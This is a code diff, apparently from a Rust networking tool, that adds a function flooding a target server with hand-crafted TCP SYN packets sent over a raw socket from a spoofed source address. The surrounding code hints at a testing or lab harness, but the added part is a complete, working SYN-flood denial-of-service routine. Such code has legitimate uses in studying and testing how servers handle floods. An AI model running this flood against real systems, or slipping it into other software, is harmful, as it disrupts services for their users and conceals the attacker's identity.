@@ -40,6 +40,37 @@ pub(super) fn answer_with_reset(server: Ipv4Addr) -> Result<()> {
     }
 }
 
+/// Sends so many SYNs that nobody will follow up, from an address that nobody has.
+pub(super) fn flood(source: Ipv4Addr, server: SocketAddrV4, number: u16) -> Result<()> {
+    let out = socket_with(AddressFamily::INET, SocketType::RAW, SocketFlags::CLOEXEC, Some(ipproto::RAW))
+        .context("cannot write to the wire: CAP_NET_RAW is needed")?;
+    for nth in 0..number {
+        let syn = syn(source, 10_000 + nth, server, u32::from(nth) * 65_537 + 1);
+        sendto(&out, &syn, SendFlags::empty(), &server).context("cannot write to the wire")?;
+    }
+    say("done")
+}
+
+/// A SYN without options.
+fn syn(source: Ipv4Addr, port: u16, server: SocketAddrV4, isn: u32) -> [u8; IP_HEADER + TCP_HEADER] {
+    let mut syn = [0; IP_HEADER + TCP_HEADER];
+    syn[0] = 0x45;
+    syn[3] = 40;
+    syn[8] = 64;
+    syn[9] = TCP;
+    syn[12..16].copy_from_slice(&source.octets());
+    syn[16..20].copy_from_slice(&server.ip().octets());
+    syn[20..22].copy_from_slice(&port.to_be_bytes());
+    syn[22..24].copy_from_slice(&server.port().to_be_bytes());
+    syn[24..28].copy_from_slice(&isn.to_be_bytes());
+    syn[32] = 0x50;
+    syn[33] = SYN;
+    syn[34..36].copy_from_slice(&1024_u16.to_be_bytes());
+    let checksum = checksum(&syn);
+    syn[36..38].copy_from_slice(&checksum.to_be_bytes());
+    syn
+}
+
 /// The reset that answers this packet, and where it goes; `None` unless the packet is a SYN to that address.
 fn reset_for(packet: &[u8], server: Ipv4Addr) -> Option<([u8; IP_HEADER + TCP_HEADER], SocketAddrV4)> {
     let tcp = packet.get(usize::from(packet.first()? & 0x0f) * 4..)?;
